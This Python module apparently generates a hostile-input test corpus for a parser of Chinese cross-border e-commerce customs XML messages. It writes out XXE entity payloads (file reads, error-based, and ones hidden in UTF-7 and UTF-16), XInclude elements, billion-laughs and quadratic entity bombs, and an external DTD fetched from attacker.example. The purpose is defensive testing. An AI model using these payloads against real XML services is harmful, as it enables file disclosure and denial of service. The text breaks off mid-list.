"""Regenerate the hostile-input corpus: realistic good CEB messages, then broken on purpose.

Run from the repository root: `.venv/bin/python tests/messages/corpus/make_corpus.py`. It rewrites
every `<kind>/<nn>_<name>.xml` and `expected.tsv`, which holds one line per file: the file, the
outcome it must get (`900`: refused whole and answered with a CEB900 format-error receipt;
`business`: read, its node answered with a business receipt naming the problem), a fragment the
refusal reason or one problem's path must contain (empty: any reason), and what the case is.

The good messages are built with `cbec.messages.build.build_message` from the hand-written rows
below (one parcel of two cosmetics bought on a Hangzhou platform, 9610 direct mail), so that a
broken file differs from a real message in exactly what its name says.

`tests/messages/test_hostile.py` imports this module for the good messages and to build, at test
time, the external-entity and XInclude messages aimed at a secret file it creates.
"""

from __future__ import annotations

import base64
import dataclasses
import datetime as dt
import gzip
import io
import itertools
import json
import re
import shutil
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

from cbec.messages.build import build_message, wrap_dxp
from cbec.messages.catalog import DXP_NAMESPACE, MESSAGES, NAMESPACE

HERE = Path(__file__).parent
MAX_FILE_BYTES = 200_000  # the corpus is about hostile shapes, not about the 10 MB message limit
TIME = dt.datetime(2024, 6, 15, 10, 0, 0)
XINCLUDE = "http://www.w3.org/2001/XInclude"

# The rows of the good messages ------------------------------------------------------------

EBP = {"ebp_code": "3301964J31", "ebp_name": "杭州优选跨境电子商务有限公司"}
EBC = {"ebc_code": "3301968K52", "ebc_name": "浙江海淘精选贸易有限公司"}
PAYER = {"pay_code": "31222699S7", "pay_name": "支付宝（中国）网络技术有限公司"}
LOGISTICS = {"logistics_code": "3122480063", "logistics_name": "顺丰速运有限公司"}
AGENT = {"agent_code": "3301980001", "agent_name": "杭州综保报关服务有限公司"}
BUYERS = (
    ("王小明", "110101199003070011", "13812345678", "北京市东城区南池子大街12号院3号楼502室"),
    ("李晓华", "110101198512010012", "13998765432", "浙江省杭州市西湖区文三路478号华星时代广场A座"),
)
ORDER_NOS = ("T20240615100001", "T20240615100002")
LINES = (  # item name, model, HS code, price, quantity, net kg, bar code, country
    (
        "雅诗兰黛特润修护肌活精华露",
        "50ml/瓶",
        "3304990099",
        "298.00",
        1,
        "0.05",
        "0887167485839",
        "502",
    ),
    ("资生堂红妍肌活精华露", "30ml/瓶", "3304990099", "100.00", 2, "0.03", "4514254193372", "116"),
)


def _head(index: int) -> dict[str, Any]:
    """The message head fields every business node starts with."""
    return {
        "guid": f"4CF0A3A2-6C1E-4E2B-9F0D-2B1D3C4E5F6{index}",
        "app_type": "1",
        "app_time": TIME,
        "app_status": "2",
    }


def order_rows() -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """Two CEB311 orders, the first of two lines, the second of one."""
    heads, lines = [], []
    for index, (order_no, (name, id_number, phone, address)) in enumerate(
        zip(ORDER_NOS, BUYERS, strict=True)
    ):
        items = LINES if index == 0 else LINES[1:]
        value = sum(Decimal(price) * qty for _, _, _, price, qty, *_ in items)
        tax = (value * Decimal("0.091")).quantize(Decimal("0.01"))
        heads.append(
            {
                **_head(index),
                "order_type": "I",
                "order_no": order_no,
                **EBP,
                **EBC,
                "goods_value": value,
                "freight": Decimal("0.00"),
                "discount": Decimal("0.00"),
                "tax_total": tax,
                "actural_paid": value + tax,
                "currency": "142",
                "buyer_reg_no": f"tb_{phone}",
                "buyer_name": name,
                "buyer_telephone": phone,
                "buyer_id_type": "1",
                "buyer_id_number": id_number,
                **PAYER,
                "pay_transaction_id": f"20240615220014{index:02d}5678901234",
                "consignee": name,
                "consignee_telephone": phone,
                "consignee_address": address,
                "consignee_district": id_number[:6],
            }
        )
        for gnum, (item, model, _, price, qty, _, bar_code, country) in enumerate(items, 1):
            lines.append(
                {
                    "ebp_code": EBP["ebp_code"],
                    "order_no": order_no,
                    "gnum": gnum,
                    "item_no": f"SKU{bar_code[-6:]}",
                    "item_name": item,
                    "gmodel": model,
                    "bar_code": bar_code,
                    "unit": "011",
                    "qty": Decimal(qty),
                    "price": Decimal(price),
                    "total_price": Decimal(price) * qty,
                    "currency": "142",
                    "country": country,
                }
            )
    return heads, lines


def payment_rows() -> list[dict[str, Any]]:
    orders, _ = order_rows()
    return [
        {
            **_head(index),
            **PAYER,
            "pay_transaction_id": order["pay_transaction_id"],
            "order_no": order["order_no"],
            **EBP,
            "payer_id_type": "1",
            "payer_id_number": order["buyer_id_number"],
            "payer_name": order["buyer_name"],
            "telephone": order["buyer_telephone"],
            "amount_paid": order["actural_paid"],
            "currency": "142",
            "pay_time": TIME + dt.timedelta(minutes=5, seconds=12),
        }
        for index, order in enumerate(orders)
    ]


def waybill_rows() -> list[dict[str, Any]]:
    orders, _ = order_rows()
    return [
        {
            **_head(index),
            **LOGISTICS,
            "logistics_no": f"SF14402871830{index}",
            "bill_no": "784-12345675",
            "order_no": order["order_no"],
            "freight": Decimal("0.00"),
            "insured_fee": Decimal("0.00"),
            "currency": "142",
            "weight": Decimal("0.45"),
            "pack_no": 1,
            "goods_info": "精华露",
            "consignee": order["consignee"],
            "consignee_address": order["consignee_address"],
            "consignee_telephone": order["consignee_telephone"],
        }
        for index, order in enumerate(orders)
    ]


def inventory_rows() -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """The CEB621 declaration of the first order, with its two lines."""
    order = order_rows()[0][0]
    cop_no = "HZ2024061500000001"
    head = {
        **_head(0),
        "order_no": order["order_no"],
        **EBP,
        **EBC,
        "logistics_no": "SF144028718300",
        **LOGISTICS,
        "cop_no": cop_no,
        "assure_code": EBC["ebc_code"],
        "ie_flag": "I",
        "decl_time": dt.datetime(2024, 6, 15),
        "customs_code": "2991",
        "port_code": "2991",
        "ie_date": dt.datetime(2024, 6, 15),
        "buyer_id_type": "1",
        "buyer_id_number": order["buyer_id_number"],
        "buyer_name": order["buyer_name"],
        "buyer_telephone": order["buyer_telephone"],
        "consignee_address": order["consignee_address"],
        **AGENT,
        "trade_mode": "9610",
        "traf_mode": "5",
        "traf_no": "CA1052",
        "bill_no": "784-12345675",
        "country": "502",
        "freight": Decimal("0.00"),
        "insured_fee": Decimal("0.00"),
        "currency": "142",
        "wrap_type": "2",
        "pack_no": 1,
        "gross_weight": Decimal("0.45"),
        "net_weight": Decimal("0.11"),
    }
    lines = [
        {
            "agent_code": AGENT["agent_code"],
            "cop_no": cop_no,
            "gnum": gnum,
            "item_no": f"SKU{bar_code[-6:]}",
            "item_name": item,
            "gcode": gcode,
            "gname": item,
            "gmodel": model,
            "bar_code": bar_code,
            "country": country,
            "trade_country": country,
            "currency": "142",
            "qty": Decimal(qty),
            "unit": "011",
            "qty1": Decimal(net) * qty,
            "unit1": "035",
            "price": Decimal(price),
            "total_price": Decimal(price) * qty,
        }
        for gnum, (item, model, gcode, price, qty, net, bar_code, country) in enumerate(LINES, 1)
    ]
    return [head], lines


def transfer(cop_code: str, cop_name: str) -> dict[str, str | None]:
    return {"copCode": cop_code, "copName": cop_name, "dxpMode": "DXP", "dxpId": "DXPENT0000458763"}


def good_messages() -> dict[str, bytes]:
    """One good message of each type the corpus breaks: 311, 411, 511 and 621."""
    orders, order_lines = order_rows()
    inventories, inventory_lines = inventory_rows()
    ebp = transfer(EBP["ebp_code"], EBP["ebp_name"])
    return {
        "311": build_message(
            MESSAGES["311"], orders, order_lines, "0B7E5B8C-1D2A-4C3B-9E4F-5A6B7C8D9E01", ebp
        ),
        "411": build_message(
            MESSAGES["411"],
            payment_rows(),
            guid="0B7E5B8C-1D2A-4C3B-9E4F-5A6B7C8D9E02",
            transfer=transfer(PAYER["pay_code"], PAYER["pay_name"]),
        ),
        "511": build_message(
            MESSAGES["511"],
            waybill_rows(),
            guid="0B7E5B8C-1D2A-4C3B-9E4F-5A6B7C8D9E03",
            transfer=transfer(LOGISTICS["logistics_code"], LOGISTICS["logistics_name"]),
        ),
        "621": build_message(
            MESSAGES["621"],
            inventories,
            inventory_lines,
            "0B7E5B8C-1D2A-4C3B-9E4F-5A6B7C8D9E04",
            transfer(AGENT["agent_code"], AGENT["agent_name"]),
        ),
    }


GOOD = {code: data.decode() for code, data in good_messages().items()}
ORDER, PAYMENT, WAYBILL, INVENTORY = GOOD["311"], GOOD["411"], GOOD["511"], GOOD["621"]
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'

# Small tools to break a message in one place ----------------------------------------------


def swap(message: str, old: str, new: str, count: int = 1) -> str:
    """`old` (which must be there) replaced by `new`, the first `count` times."""
    if old not in message:
        raise ValueError(f"{old!r} is not in the message")
    return message.replace(old, new, count)


def _leaf(name: str) -> str:
    return rf"<ceb:{name}>[^<]*</ceb:{name}>"


def _nth(message: str, pattern: str, nth: int) -> re.Match[str]:
    matches = list(re.finditer(pattern, message, re.S))
    if len(matches) < nth:
        raise ValueError(f"{pattern!r} is not in the message {nth} times")
    return matches[nth - 1]


def value(message: str, name: str, new: str, nth: int = 1) -> str:
    """The `nth` element `name` with `new` as its content (raw XML, not escaped)."""
    found = _nth(message, _leaf(name), nth)
    return f"{message[: found.start()]}<ceb:{name}>{new}</ceb:{name}>{message[found.end() :]}"


def drop(message: str, name: str, nth: int = 1) -> str:
    """The `nth` element `name` (a leaf, or a part like `OrderHead`) and its line removed."""
    found = _nth(message, rf"[ \t]*<ceb:{name}>.*?</ceb:{name}>\n", nth)
    return message[: found.start()] + message[found.end() :]


def element(message: str, name: str, nth: int = 1) -> str:
    """The text of the `nth` element `name` (a leaf or a part), tags included."""
    return _nth(message, rf"<ceb:{name}>.*?</ceb:{name}>", nth).group()


def after(message: str, name: str, xml: str, nth: int = 1) -> str:
    """`xml` inserted right after the `nth` element `name`."""
    found = _nth(message, rf"<ceb:{name}>.*?</ceb:{name}>", nth)
    return message[: found.end()] + xml + message[found.end() :]


def with_doctype(message: str, doctype: str) -> str:
    """A document type declaration between the XML declaration and the root."""
    return swap(message, DECLARATION, DECLARATION + doctype + "\n")


def declared(message: str, encoding: str) -> str:
    return swap(message, 'encoding="UTF-8"', f'encoding="{encoding}"')


def latin(message: str) -> str:
    """The message with its Chinese text replaced, for encodings without Chinese."""
    return re.sub(r"[^\x00-\x7f]+", "X", message)


def utf7(message: str) -> bytes:
    """The message in UTF-7 with every markup character base64-encoded, as a sender can: the
    bytes hold no `<` at all, so no byte scan for `<!DOCTYPE` sees the DTD."""
    declaration = '<?xml version="1.0" encoding="UTF-7"?>\n'
    out = [declaration.encode("ascii")]
    for char in swap(message, DECLARATION, ""):
        if char.isascii() and (char.isalnum() or char in " \n:/.=_-'\"?,()"):
            out.append(char.encode("ascii"))
        else:
            out.append(b"+" + base64.b64encode(char.encode("utf-16-be")).rstrip(b"=") + b"-")
    return b"".join(out)


def dxp(message: str | bytes) -> str:
    """The message in a DXP transport envelope, as the clearance path receives it."""
    data = message.encode() if isinstance(message, str) else message
    info = {
        "CopMsgId": "0B7E5B8C1D2A4C3B9E4F5A6B7C8D9E99",
        "SenderId": "DXPENT0000458763",
        "ReceiverId": "DXPEDCCEB0000002",
        "CreatTime": "20240615100001",
        "MsgType": "CEB311Message",
    }
    return wrap_dxp(data, info).decode()


def names(message: str, new: str) -> str:
    """Every `CEB311Message` (start and end tags) renamed."""
    return message.replace("CEB311Message", new)


def billion_laughs(levels: int = 10) -> str:
    """The classic: ten entities, each ten of the one before."""
    entities = ['<!ENTITY lol0 "lol">']
    for level in range(1, levels):
        entities.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">')
    return f"<!DOCTYPE ceb:CEB311Message [{''.join(entities)}]>"


BOMB_REFERENCE = "&lol9;"
# An element of a later version of the standard, with a child: tolerated, but it makes the parser
# walk the message a second time, element by element (`parse._careful_walk`).
FUTURE_FIELD = "<ceb:futureField><ceb:since>2025</ceb:since></ceb:futureField>"

# The cases ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    data: bytes
    outcome: str  # "900" (refused whole) or "business" (read; the node gets a problem)
    match: str  # in the refusal reason (900) or in one problem's path (business); "" for any
    what: str  # "" when the name says it all
    kind: str = ""


def _bytes(data: str | bytes) -> bytes:
    return data.encode("utf-8") if isinstance(data, str) else data


def refused(name: str, data: str | bytes, match: str, what: str) -> Case:
    """A case refused whole; `match` is in the reason."""
    return Case(name, _bytes(data), "900", match, what)


def business(name: str, data: str | bytes, path: str, what: str) -> Case:
    """A case read, with a problem whose path contains `path`."""
    return Case(name, _bytes(data), "business", path, what)


DTD = "a DTD or entity declaration"
NOT_XML = "not well-formed XML"
ENCODING = "is not accepted"  # an encoding outside UTF-8, UTF-16 and the GB family
NOT_CEB = "not in the CEB namespace"
UNKNOWN = "unknown message type"
HEAD = "/CEB311Message/Order[1]/OrderHead"
LINE = "/CEB311Message/Order[1]/OrderList[1]"
PAY = "/CEB411Message/Payment[1]/PaymentHead"
WAY = "/CEB511Message/Logistics[1]/LogisticsHead"
INV = "/CEB621Message/Inventory[1]/InventoryHead"
INV_LINE = "/CEB621Message/Inventory[1]/InventoryList"

Cases = Iterator[Case]


def external_entity_cases(url: str) -> Cases:
    """Messages that try to read `url` (file:// or http://) into a field, in every way a DTD
    allows. All are refused: a CEB message has no DTD."""
    entity = f'<!DOCTYPE ceb:CEB311Message [<!ENTITY xxe SYSTEM "{url}">]>'
    in_name = value(ORDER, "buyerName", "&xxe;")
    yield refused(
        "general-entity-in-field", with_doctype(in_name, entity), DTD, "&xxe; in buyerName"
    )
    parameter = f'<!DOCTYPE ceb:CEB311Message [<!ENTITY % xxe SYSTEM "{url}"> %xxe;]>'
    yield refused("parameter-entity", with_doctype(ORDER, parameter), DTD, "%xxe; in the DTD")
    external = f'<!DOCTYPE ceb:CEB311Message SYSTEM "{url}">'
    yield refused("external-dtd", with_doctype(ORDER, external), DTD, "the DTD itself is the URL")
    public = f'<!DOCTYPE ceb:CEB311Message PUBLIC "-//CBEC//HOSTILE//EN" "{url}">'
    yield refused("public-dtd", with_doctype(ORDER, public), DTD, "a PUBLIC DTD at the URL")
    yield refused(
        "entity-in-attribute",
        with_doctype(swap(ORDER, 'guid="0B7E', 'guid="&xxe;0B7E'), entity),
        DTD,
        "&xxe; in the message guid attribute",
    )
    error_based = (
        f'<!DOCTYPE ceb:CEB311Message [<!ENTITY % file SYSTEM "{url}">'
        "<!ENTITY % eval \"<!ENTITY &#x25; error SYSTEM 'file:///nonexistent/%file;'>\">"
        "%eval; %error;]>"
    )
    yield refused("error-based", with_doctype(ORDER, error_based), DTD, "the file in an error")
    utf16 = declared(with_doctype(in_name, entity), "UTF-16").encode("utf-16")
    yield refused("utf16-general-entity", utf16, DTD, "&xxe; with the DTD in UTF-16")
    yield refused(
        "utf7-general-entity",
        utf7(with_doctype(latin(in_name), entity)),
        ENCODING,
        "&xxe; with the DTD in UTF-7 (no `<!DOCTYPE` bytes): refused for its encoding",
    )
    yield refused(
        "utf7-parameter-entity",
        utf7(with_doctype(latin(ORDER), parameter)),
        ENCODING,
        "%xxe; with the DTD in UTF-7: refused for its encoding before libxml2 sees it",
    )
    waybill = value(WAYBILL, "consigneeAddress", "&xxe;")
    yield refused(
        "waybill-address",
        with_doctype(waybill, entity.replace("ceb:CEB311Message", "ceb:CEB511Message")),
        DTD,
        "&xxe; in a waybill's consigneeAddress",
    )
    yield refused("in-dxp-envelope", dxp(with_doctype(in_name, entity)), DTD, "inside DXP Data")


def xinclude_cases(url: str) -> Cases:
    """XInclude elements aimed at `url`: never processed, each an element where none may be."""
    include = f'<xi:include xmlns:xi="{XINCLUDE}" href="{url}" parse="text"/>'
    yield business("in-a-field", value(ORDER, "buyerName", include), f"{HEAD}/buyerName", "")
    yield business(
        "instead-of-a-required-field",
        swap(ORDER, element(ORDER, "buyerIdNumber"), include),
        f"{HEAD}/buyerIdNumber",
        "xi:include where buyerIdNumber should be",
    )
    yield business(
        "in-a-line-field", value(ORDER, "itemName", include), f"{LINE}/itemName", "in itemName"
    )
    yield business(
        "in-the-node",
        swap(ORDER, "<ceb:OrderHead>", include + "<ceb:OrderHead>"),
        "/CEB311Message/Order[1]/include",
        "between Order and OrderHead",
    )
    yield business(
        "in-the-root",
        swap(ORDER, "<ceb:Order>", include + "<ceb:Order>"),
        "/CEB311Message/include",
        "between the root and the first Order",
    )
    yield refused("as-the-root", DECLARATION + include, NOT_CEB, "the document is one xi:include")
    fallback = (
        f'<xi:include xmlns:xi="{XINCLUDE}" href="{url}" parse="xml">'
        "<xi:fallback>王小明</xi:fallback></xi:include>"
    )
    yield business(
        "with-fallback-in-payment",
        value(PAYMENT, "payerName", fallback),
        f"{PAY}/payerName",
        "parse=xml with a fallback, in payerName",
    )
    yield business(
        "beside-the-fields",
        swap(ORDER, "<ceb:currency>", include + "<ceb:currency>"),
        f"{HEAD}/include",
        "an extra child of OrderHead (known gap F)",
    )


def entity_bomb_cases() -> Cases:
    """Entity expansion: all refused before anything is expanded."""
    bomb = with_doctype(value(ORDER, "buyerName", BOMB_REFERENCE), billion_laughs())
    yield refused("billion-laughs", bomb, DTD, "10^9 lol in buyerName")
    quadratic = '<!DOCTYPE ceb:CEB311Message [<!ENTITY a "' + "x" * 20_000 + '">]>'
    yield refused(
        "quadratic-blowup",
        with_doctype(value(ORDER, "buyerName", "&a;" * 4_000), quadratic),
        DTD,
        "one 20,000-character entity used 4,000 times",
    )
    parameters = ['<!ENTITY % p0 "lol">']
    for level in range(1, 10):
        parameters.append(f'<!ENTITY % p{level} "{f"&#37;p{level - 1};" * 10}">')
    nested = f'<!DOCTYPE ceb:CEB311Message [{"".join(parameters)}<!ENTITY x "%p9;">]>'
    yield refused(
        "nested-parameter-entities",
        with_doctype(value(ORDER, "buyerName", "&x;"), nested),
        DTD,
        "parameter entities ten of the one before, used in a general entity",
    )
    recursive = '<!DOCTYPE ceb:CEB311Message [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
    yield refused(
        "recursive-entities",
        with_doctype(value(ORDER, "buyerName", "&a;"), recursive),
        DTD,
        "a refers to b, b to a",
    )
    in_attribute = swap(ORDER, 'guid="0B7E', f'guid="{BOMB_REFERENCE}0B7E')
    yield refused(
        "in-an-attribute",
        with_doctype(in_attribute, billion_laughs()),
        DTD,
        "the bomb in the message guid attribute",
    )
    yield refused(
        "utf16-with-bom", declared(bomb, "UTF-16").encode("utf-16"), DTD, "UTF-16 LE with a BOM"
    )
    yield refused(
        "utf16be-without-bom",
        declared(bomb, "UTF-16").encode("utf-16-be"),
        DTD,
        "UTF-16 BE, no BOM",
    )
    yield refused("utf32", declared(bomb, "UTF-32").encode("utf-32"), DTD, "UTF-32 with a BOM")
    yield refused(
        "utf7",
        utf7(with_doctype(latin(value(ORDER, "buyerName", BOMB_REFERENCE)), billion_laughs())),
        "",
        "UTF-7, no `<!DOCTYPE` bytes: stopped by libxml2's amplification limit",
    )
    yield refused(
        "external-dtd-bomb",
        with_doctype(
            value(ORDER, "buyerName", BOMB_REFERENCE),
            '<!DOCTYPE ceb:CEB311Message SYSTEM "http://attacker.example/lol.dtd">',
        ),
        DTD,
        "the entities in a remote DTD",
    )
    yield refused("in-dxp-envelope", dxp(bomb), DTD, "the billion laughs inside DXP Data")


def deep_nesting_cases() -> Cases:
    def deep(levels: int, text: str = "王小明") -> str:
        return "<ceb:n>" * levels + text + "</ceb:n>" * levels

    yield business(
        "100-levels-in-a-field", value(ORDER, "buyerName", deep(100)), f"{HEAD}/buyerName", ""
    )
    yield business(
        "200-levels-in-a-line-field",
        value(INVENTORY, "gname", deep(200)),
        f"{INV_LINE}[1]/gname",
        "in an inventory line's gname",
    )
    yield business(
        "250-levels-in-a-waybill-field",
        value(WAYBILL, "consignee", deep(250)),
        f"{WAY}/consignee",
        "just under libxml2's depth limit of 256",
    )
    yield refused(
        "10k-levels-in-a-field",
        value(ORDER, "buyerName", "<a>" * 10_000 + "王" + "</a>" * 10_000),
        NOT_XML,
        "deeper than libxml2's limit of 256",
    )
    yield refused(
        "10k-levels-in-the-root",
        swap(ORDER, "<ceb:Order>", "<a>" * 10_000 + "</a>" * 10_000 + "<ceb:Order>"),
        NOT_XML,
        "",
    )
    yield refused(
        "300-levels-in-a-signature",
        swap(
            ORDER,
            "</ceb:CEB311Message>",
            '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#">'
            + "<ds:Object>" * 300
            + "</ds:Object>" * 300
            + "</ds:Signature></ceb:CEB311Message>",
        ),
        NOT_XML,
        "",
    )
    order = element(ORDER, "Order")
    yield business(
        "orders-in-orders",
        swap(ORDER, order, "<ceb:Order>" * 50 + order + "</ceb:Order>" * 50),
        "/CEB311Message/Order[1]/Order",
        "an Order node inside 50 Order nodes",
    )
    head = element(ORDER, "OrderHead")
    yield business(
        "heads-in-a-head",
        swap(ORDER, head, "<ceb:OrderHead>" * 20 + head + "</ceb:OrderHead>" * 20),
        f"{HEAD}/orderNo",
        "OrderHead inside 20 OrderHead: the outer one has no fields",
    )
    yield business(
        "in-the-base-transfer",
        value(ORDER, "copCode", deep(100, "3301964J31")),
        "/CEB311Message/BaseTransfer/copCode",
        "100 levels in BaseTransfer/copCode (known gap A)",
    )


def huge_text_cases() -> Cases:
    """Values far beyond their element's length: each a problem naming the element."""
    yield business(
        "100k-character-name",
        value(ORDER, "buyerName", "王" + "A" * 99_999),
        f"{HEAD}/buyerName",
        "",
    )
    yield business(
        "100k-character-note",
        after(
            ORDER, "consigneeDistrict", "<ceb:note>" + "备注" * 5_000 + "n" * 90_000 + "</ceb:note>"
        ),
        f"{HEAD}/note",
        "100,000 characters where 1,000 are allowed",
    )
    yield business(
        "100k-digit-number",
        value(ORDER, "goodsValue", "9" * 100_000 + ".00"),
        f"{HEAD}/goodsValue",
        "",
    )
    yield business(
        "100k-digit-quantity", value(INVENTORY, "qty", "1" * 100_000), f"{INV_LINE}[1]/qty", ""
    )
    yield business("100k-character-guid", value(PAYMENT, "guid", "A" * 100_000), f"{PAY}/guid", "")
    yield business(
        "100k-character-transaction-id",
        value(PAYMENT, "payTransactionId", "2024" * 25_000),
        f"{PAY}/payTransactionId",
        "",
    )
    yield business(
        "256-character-address",
        value(WAYBILL, "consigneeAddress", "浙" * 256),
        f"{WAY}/consigneeAddress",
        "one character over the 255 of free text",
    )
    yield business(
        "1001-character-goods-info",
        value(WAYBILL, "goodsInfo", "精" * 1001),
        f"{WAY}/goodsInfo",
        "one character over the 1,000 of a description",
    )
    yield business(
        "19-character-enterprise-code",
        value(INVENTORY, "ebpCode", "3301964J31" + "X" * 9),
        f"{INV}/ebpCode",
        "one character over the 18 of an enterprise code",
    )
    yield business(
        "100k-character-message-guid",
        swap(ORDER, 'guid="0B7E5B8C-1D2A-4C3B-9E4F-5A6B7C8D9E01"', f'guid="{"A" * 100_000}"'),
        "/CEB311Message/@guid",
        "the message guid attribute, echoed in every receipt (known gap B)",
    )


def wrong_namespace_cases() -> Cases:
    for name, namespace, what in (
        ("trailing-slash", NAMESPACE + "/", ""),
        ("https", NAMESPACE.replace("http:", "https:"), ""),
        ("upper-case", NAMESPACE.upper(), "namespaces are case-sensitive"),
        ("dxp-namespace", DXP_NAMESPACE, "the transport namespace"),
        ("export-namespace-guess", "http://www.chinaport.gov.cn/ceb/export", ""),
    ):
        yield refused(name, swap(ORDER, f'"{NAMESPACE}"', f'"{namespace}"'), NOT_CEB, what)
    plain = ORDER.replace("<ceb:", "<").replace("</ceb:", "</")
    plain = swap(plain, f' xmlns:ceb="{NAMESPACE}"', "")
    yield refused("no-namespace", plain, NOT_CEB, "no prefix, no namespace at all")
    yield refused("empty-namespace", swap(ORDER, f'"{NAMESPACE}"', '""'), NOT_XML, "")
    other = ' xmlns:ceb="http://example.com/ceb"'
    yield refused(
        "node-in-another-namespace",
        ORDER.replace("<ceb:Order>", f"<ceb:Order{other}>"),
        "no Order in the message",
        "",
    )
    yield business(
        "head-in-another-namespace",
        swap(ORDER, "<ceb:OrderHead>", f"<ceb:OrderHead{other}>"),
        HEAD,
        "the head is not the CEB OrderHead",
    )
    yield business(
        "fields-without-namespace",
        swap(
            ORDER,
            element(ORDER, "OrderHead"),
            re.sub(r"(</?)ceb:(?!OrderHead)", r"\1", element(ORDER, "OrderHead")),
        ),
        f"{HEAD}/orderNo",
        "the head's fields are in no namespace",
    )
    yield business(
        "field-in-xsi-namespace",
        swap(ORDER, element(ORDER, "orderNo"), "<xsi:orderNo>T20240615100001</xsi:orderNo>"),
        f"{HEAD}/orderNo",
        "orderNo in the XML Schema instance namespace",
    )


def unknown_type_cases() -> Cases:
    for name, root, what in (
        ("ceb999", "CEB999Message", "no such message"),
        ("ceb313", "CEB313Message", "the code after the order receipt: no such message"),
        ("lower-case-message", "CEB311message", ""),
        ("leading-zero", "CEB0311Message", ""),
        ("four-digits", "CEB3111Message", ""),
        ("no-code", "CEBMessage", ""),
        ("business-node-as-root", "Order", "the Order node without its message"),
    ):
        yield refused(name, names(ORDER, root), UNKNOWN, what)
    yield refused(
        "dxp-root-in-ceb-namespace",
        swap(names(ORDER, "DxpMsg"), "xmlns:ceb=", 'xmlns:dxp="x" xmlns:ceb='),
        UNKNOWN,
        "DxpMsg in the CEB namespace",
    )


def missing_required_cases() -> Cases:
    yield business("order-without-order-no", drop(ORDER, "orderNo"), f"{HEAD}/orderNo", "")
    yield business(
        "empty-buyer-id-number",
        value(ORDER, "buyerIdNumber", ""),
        f"{HEAD}/buyerIdNumber",
        "<buyerIdNumber></buyerIdNumber>",
    )
    yield business(
        "self-closed-buyer-id-number",
        swap(ORDER, element(ORDER, "buyerIdNumber"), "<ceb:buyerIdNumber/>"),
        f"{HEAD}/buyerIdNumber",
        "<buyerIdNumber/>",
    )
    yield business("payment-without-pay-time", drop(PAYMENT, "payTime"), f"{PAY}/payTime", "")
    yield business(
        "blank-amount-paid", value(PAYMENT, "amountPaid", " \n\t "), f"{PAY}/amountPaid", ""
    )
    yield business(
        "waybill-without-logistics-no", drop(WAYBILL, "logisticsNo"), f"{WAY}/logisticsNo", ""
    )
    yield business(
        "waybill-without-address", drop(WAYBILL, "consigneeAddress"), f"{WAY}/consigneeAddress", ""
    )
    yield business(
        "inventory-line-without-gcode",
        drop(INVENTORY, "gcode", nth=2),
        f"{INV_LINE}[2]/gcode",
        "the second line",
    )
    yield business(
        "inventory-without-decl-time", drop(INVENTORY, "declTime"), f"{INV}/declTime", ""
    )
    yield business("order-line-without-gnum", drop(ORDER, "gnum"), f"{LINE}/gnum", "")
    yield business(
        "order-without-head", drop(ORDER, "OrderHead"), HEAD, "Order holds its lines only"
    )
    head = element(PAYMENT, "PaymentHead")
    yield business(
        "empty-payment-head",
        swap(PAYMENT, head, "<ceb:PaymentHead></ceb:PaymentHead>"),
        f"{PAY}/payCode",
        "",
    )
    yield refused(
        "no-business-node",
        re.sub(r"  <ceb:Payment>.*</ceb:Payment>\n", "", PAYMENT, flags=re.S),
        "no Payment in the message",
        "BaseTransfer only",
    )
    yield business(
        "blank-buyer-name",
        value(ORDER, "buyerName", "　　"),
        f"{HEAD}/buyerName",
        "two ideographic spaces: present, but no name (known gap E)",
    )
    yield business(
        "head-missing-beside-nested-element",
        swap(drop(ORDER, "OrderHead"), "<ceb:qty>", FUTURE_FIELD + "<ceb:qty>"),
        HEAD,
        "no OrderHead, and an unknown element with a child in a line (known gap A)",
    )


def repeated_element_cases() -> Cases:
    yield business(
        "order-no-twice",
        after(ORDER, "orderNo", "<ceb:orderNo>T20240615999999</ceb:orderNo>"),
        f"{HEAD}/orderNo",
        "two order numbers, different",
    )
    head = element(ORDER, "OrderHead")
    yield business(
        "order-head-twice",
        swap(ORDER, head, head + head.replace("T20240615100001", "T20240615999999")),
        HEAD,
        "a second OrderHead smuggled into the node",
    )
    yield business("gnum-twice", after(ORDER, "gnum", "<ceb:gnum>2</ceb:gnum>"), f"{LINE}/gnum", "")
    yield business(
        "amount-paid-twice",
        after(PAYMENT, "amountPaid", "<ceb:amountPaid>1.00</ceb:amountPaid>"),
        f"{PAY}/amountPaid",
        "",
    )
    yield business(
        "currency-twice",
        after(INVENTORY, "currency", "<ceb:currency>502</ceb:currency>"),
        f"{INV}/currency",
        "",
    )
    yield business(
        "logistics-no-3000-times",
        after(WAYBILL, "logisticsNo", element(WAYBILL, "logisticsNo") * 3_000),
        f"{WAY}/logisticsNo",
        "",
    )
    yield refused(
        "message-guid-twice",
        swap(ORDER, 'guid="0B7E', 'guid="X" guid="0B7E'),
        NOT_XML,
        "an attribute twice is not XML",
    )
    yield refused(
        "namespace-declared-twice",
        swap(ORDER, f'xmlns:ceb="{NAMESPACE}"', f'xmlns:ceb="{NAMESPACE}" xmlns:ceb="{NAMESPACE}"'),
        NOT_XML,
        "",
    )
    transfer_element = element(ORDER, "BaseTransfer")
    yield business(
        "base-transfer-twice",
        swap(
            ORDER,
            transfer_element,
            transfer_element + transfer_element.replace("3301964J31", "9999999999"),
        ),
        "/CEB311Message/BaseTransfer",
        "the second BaseTransfer wins silently (known gap C)",
    )
    yield business(
        "head-twice-beside-nested-element",
        swap(
            ORDER,
            head,
            swap(head, "<ceb:currency>", FUTURE_FIELD + "<ceb:currency>")
            + head.replace("T20240615100001", "T20240615999999"),
        ),
        HEAD,
        "two OrderHead, and an unknown element with a child (known gap A)",
    )


def wrong_type_cases() -> Cases:
    for message, path, name, new, case in (
        (ORDER, HEAD, "goodsValue", "39B.00", "letters-in-money"),
        (ORDER, LINE, "price", "298.005", "three-decimals"),
        (ORDER, HEAD, "appTime", "20240230100000", "february-30"),
        (PAYMENT, PAY, "payTime", "20240615250000", "hour-25"),
        (ORDER, LINE, "gnum", "1.5", "gnum-not-an-integer"),
        (ORDER, HEAD, "appType", "7", "app-type-7"),
        (INVENTORY, f"{INV_LINE}[1]", "gcode", "33049900", "gcode-of-8-digits"),
        (PAYMENT, PAY, "currency", "CNY", "currency-cny"),
